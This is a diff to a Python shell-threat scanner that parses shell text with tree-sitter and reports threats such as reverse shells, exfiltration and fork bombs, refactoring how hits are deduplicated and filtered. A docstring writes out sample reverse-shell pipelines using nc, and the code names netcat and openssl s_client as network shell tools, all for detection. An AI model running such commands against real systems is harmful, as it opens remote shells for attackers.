@@ -16,13 +16,15 @@ Everything is parsed, nothing is run. Lines are 1-based in the scanned text.
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from functools import partial
 
 import tree_sitter_bash
 from tree_sitter import Language, Node, Parser
 
 from skillscan.analyzers.treesitter import shell_exfil
 from skillscan.analyzers.treesitter.registry import FileContext, Hit
+from skillscan.analyzers.treesitter.scan_hits import Hits, StatementMemo
 from skillscan.analyzers.treesitter.sensitive import ThreatContext
 from skillscan.analyzers.treesitter.shell import Detection
 from skillscan.analyzers.treesitter.shell_words import (
@@ -30,9 +32,8 @@ from skillscan.analyzers.treesitter.shell_words import (
     SHELLS,
     WRAPPERS,
     Cmd,
-    assignments,
+    LazyEnv,
     base_name,
-    peel,
     text,
     walk,
 )
@@ -44,7 +45,6 @@ from skillscan.analyzers.treesitter.threat_scan import (
     PAYLOAD,
     REMOTE_COPY,
     ShellScan,
-    assigned_names,
     enclosing,
     heredoc_text,
     is_shell,
@@ -57,7 +57,6 @@ from skillscan.models import FileKind, SkillFile, VirtualOrigin
 BASH = Language(tree_sitter_bash.language())
 MAX_SOURCE = 2 * 1024 * 1024
 MAX_DEPTH = 3
-MAX_HITS_PER_RULE = 20  # per text: thousands of identical commands are reported, not listed
 
 _RC_FILES = re.compile(
     r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc|tcshrc)$|"
@@ -112,21 +111,41 @@ def scan_shell_threats(
     depth: int = 0,
     root: Node | None = None,
     assigned: frozenset[str] = frozenset(),
+    keep: Callable[[int], bool] | None = None,
 ) -> list[Detection]:
     """Every non-download shell threat in a shell text.
 
     `root` is the parsed tree of `source` when the caller has one; `assigned` adds variable names
-    set elsewhere (other code blocks of the same document) that are therefore not inherited env."""
+    set elsewhere (other code blocks of the same document) that are therefore not inherited env;
+    `keep` says which lines count (before 20 per rule are listed)."""
     if depth > MAX_DEPTH or not source.strip():
         return []
     source = source[:MAX_SOURCE]
     if root is None:
         root = Parser(BASH).parse(source.encode("utf-8", "replace")).root_node
-    scan = ShellScan(ctx=ctx, env=assignments(root), depth=depth, assigned=assigned_names(root) | assigned)
-    for node in walk(root):
+    scan = ShellScan(ctx, LazyEnv(root), depth, Hits(keep=keep), root=root, more_assigned=assigned)
+    memo = StatementMemo(scan.hits, scan.replay)
+    for unit in root.named_children:  # each distinct statement once: a repeat replays
+        if scan.budget <= 0:
+            break
+        key = unit.text
+        if not memo.replay(key, unit):
+            memo.record(key, unit.start_point[0] + 1, partial(_statement, scan, unit))
+    head = source[:200_000]
+    for m in _FORK_BOMB.finditer(head) if "()" in head else ():
+        line = source.count("\n", 0, m.start()) + 1
+        scan.hits.add("destructive-fork-bomb", line, "Fork bomb: exhausts processes", m.group(0)[:200])
+    shell_exfil.finish(scan)
+    return scan.hits.result()
+
+
+def _statement(scan: ShellScan, unit: Node) -> None:
+    scan.cmds = {}
+    for node in walk(unit, scan.budget):
+        scan.budget -= 1
         if node.type == "command":
             if _worth_peeling(node):
-                _command(scan, node, peel(node, scan.env))
+                _command(scan, node, scan.peel(node))
         elif node.type == "pipeline":
             _pipeline(scan, node)
             shell_exfil.pipeline(scan, node)
@@ -134,21 +153,6 @@ def scan_shell_threats(
             _redirected(scan, node)
         elif node.type == "list":
             shell_exfil.command_list(scan, node)
-    for m in _FORK_BOMB.finditer(source[:200_000]):
-        line = source.count("\n", 0, m.start()) + 1
-        scan.out.append(
-            Detection("destructive-fork-bomb", line, m.group(0)[:200], "Fork bomb: exhausts processes")
-        )
-    shell_exfil.finish(scan)
-    seen: set[tuple[str, int]] = set()
-    unique = []
-    per_rule: dict[str, int] = {}
-    for d in scan.out:
-        if (d.rule_id, d.line) not in seen and per_rule.get(d.rule_id, 0) < MAX_HITS_PER_RULE:
-            seen.add((d.rule_id, d.line))
-            per_rule[d.rule_id] = per_rule.get(d.rule_id, 0) + 1
-            unique.append(d)
-    return unique
 
 
 def _worth_peeling(node: Node) -> bool:
@@ -243,7 +247,7 @@ def _socat(scan: ShellScan, node: Node, words: list[str]) -> None:
 
 def _pipeline(scan: ShellScan, node: Node) -> None:
     """`sh -i 2>&1 | nc host port`, `nc -l 4444 | bash`, `cat fifo | sh -i | nc …`."""
-    cmds = [stage_commands(s, scan.env) for s in stages(node)]
+    cmds = [stage_commands(s, scan) for s in stages(node)]
     flat = [c for group in cmds for c in group]
     has_net = any(c.name in NETCATS or (c.name == "openssl" and "s_client" in scan.words(c)) for c in flat)
     if not has_net:
@@ -429,22 +433,16 @@ class ShellThreats:
         if f.virtual is VirtualOrigin.CODE_BLOCK and origin is not None and origin.text:
             assigned = frozenset(_ASSIGNED_IN_DOC.findall(origin.text[:MAX_SOURCE]))
         root = tree.root_node if tree is not None else None
-        for d in scan_shell_threats(ctx.source, threat_ctx, root=root, assigned=assigned):
-            if (
-                f.virtual is VirtualOrigin.INLINE_CODE
-                and origin is not None
-                and _in_warning(origin, f, d.line)
-            ):
-                continue
-            yield Hit(d.rule_id, d.line, d.evidence, d.message)
+        keep = None
+        if f.virtual is VirtualOrigin.INLINE_CODE and origin is not None and origin.text:
+            keep = partial(_not_in_warning, f, origin.text.splitlines())
+        for d in scan_shell_threats(ctx.source, threat_ctx, root=root, assigned=assigned, keep=keep):
+            yield Hit(d.rule_id, d.line, d.evidence, d.message, more=d.more)
 
 
-def _in_warning(origin: SkillFile, f: SkillFile, line: int) -> bool:
+def _not_in_warning(f: SkillFile, origin_lines: list[str], line: int) -> bool:
     real = f.real_line(line)
-    if not real or not origin.text:
-        return False
-    lines = origin.text.splitlines()
-    return 0 < real <= len(lines) and bool(_WARNING_CONTEXT.search(lines[real - 1]))
+    return not (real and 0 < real <= len(origin_lines) and _WARNING_CONTEXT.search(origin_lines[real - 1]))
 
 
 CHECKS = [ShellThreats()]
